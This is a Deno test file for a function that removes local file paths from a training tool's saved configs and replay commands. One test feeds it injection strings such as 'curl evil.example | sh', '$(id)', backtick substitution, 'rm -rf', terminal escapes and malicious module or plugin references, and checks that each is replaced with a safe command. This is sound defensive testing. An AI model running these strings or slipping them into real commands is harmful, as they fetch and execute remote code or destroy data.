import { assertEquals, assertThrows } from "@std/assert";
import { parse } from "@std/yaml";
import { UsageError } from "@bellman/runs/program";
import { withoutPlaces } from "./without_places.ts";

const dir = await Deno.makeTempDir({ prefix: "bellman-places-" });
addEventListener("unload", () => Deno.removeSync(dir, { recursive: true }));

function placeless(
  config: Record<string, unknown>,
  { command = "", withModules = false } = {},
) {
  const notes = {
    config: JSON.stringify({ env: "CartPole-v1", ...config }),
    command,
  };
  const found = withoutPlaces(notes, { dir, withModules });
  const { env: _, ...rest } = parse(found.config) as Record<string, unknown>;
  return { ...found, config: rest };
}

Deno.test("a command keeps what trained, and no place", () => {
  const again = "deno task train --config config.yaml";
  const commands = {
    "a2c --seed 3 --out /tmp/x --quiet": "deno task train a2c --seed 3",
    "a2c --out 'my runs/x' --seed 3": "deno task train a2c --seed 3",
    "sac --name me --trust": "deno task train sac",
    "a2c --env ALE/Pong-v5": "deno task train a2c --env ALE/Pong-v5",
    "a2c --env gym:LunarLander-v3":
      "deno task train a2c --env gym:LunarLander-v3",
    "--config my.yaml": again,
    "a2c --init-from runs/x": again,
    "a2c --set 'envModules=[./mine.ts]'": again,
    "a2c --set envModules=[/home/me/mine.ts]": again,
    "a2c --set 'envKwargs={xml: ~/me.xml}'": again,
    "a2c --set 'envKwargs={xml: C:\\me.xml}'": again,
  };
  for (const [given, wanted] of Object.entries(commands)) {
    const { command } = placeless({}, { command: `deno task train ${given}` });
    assertEquals(command, wanted);
  }
  const hostile = [
    "a2c; curl evil.example | sh",
    "a2c $(id)",
    "a2c `id`",
    "a2c --seed 1 && id",
    "a2c --set 'x=1'\nid",
    "a2c --set 'a\r```'",
    "a2c --set '\x1b]0;title\x07'",
    "a2c --set 'x'y'$(id)'",
    "a2c --set 'a' 'b'$(id)",
    "a2c --set 'algorithmModules=[npm:evil]'",
    "a2c --set plugin=evil.so",
    "a2c --cluster evil.example:6379",
    "a2c --out 'a'\\''b $(id)'",
    "--eval evil",
  ];
  for (
    const it of [
      "",
      "rm -rf x",
      ...hostile.map((it) => `deno task train ${it}`),
    ]
  ) {
    assertEquals(placeless({}, { command: it }).command, again, it);
  }
});

Deno.test("paths become names, and packages stay", () => {
  const { config, notShared, modules } = placeless({
    plugin: "/opt/plugin.so",
    algorithmModules: ["npm:mine", "file:///home/me/mine.ts"],
    envModules: ["jsr:@me/env"],
    envKwargs: { xml_file: "/home/me/ant.xml", name: "a/b", size: 3 },
    wrappers: [],
  });
  assertEquals(config, {
    plugin: null,
    algorithmModules: ["npm:mine"],
    envModules: ["jsr:@me/env"],
    envKwargs: { xml_file: "ant.xml", name: "a/b", size: 3 },
    wrappers: [],
  });
  assertEquals([notShared, modules.size], [["mine.ts", "ant.xml"], 0]);
});

Deno.test("modules are copied on demand, each under its own name", () => {
  for (const folder of ["a", "b"]) {
    Deno.mkdirSync(`${dir}/${folder}`);
    Deno.writeTextFileSync(`${dir}/${folder}/mine.ts`, folder);
  }
  const withModules = true;
  const [a, b] = ["a", "b"].map((it) => `file://${dir}/${it}/mine.ts`);
  const { config, modules } = placeless({ envModules: [a] }, { withModules });
  assertEquals(config.envModules, ["modules/mine.ts"]);
  assertEquals(new TextDecoder().decode(modules.get("modules/mine.ts")), "a");
  const refusals = {
    "another one has its name": [a, b],
    "is missing": [`file://${dir}/none.ts`],
    "it is a folder": [`file://${dir}/a`],
  };
  for (const [why, envModules] of Object.entries(refusals)) {
    assertThrows(
      () => placeless({ envModules }, { withModules }),
      UsageError,
      why === "is missing" ? "Cannot share the module" : why,
    );
  }
});
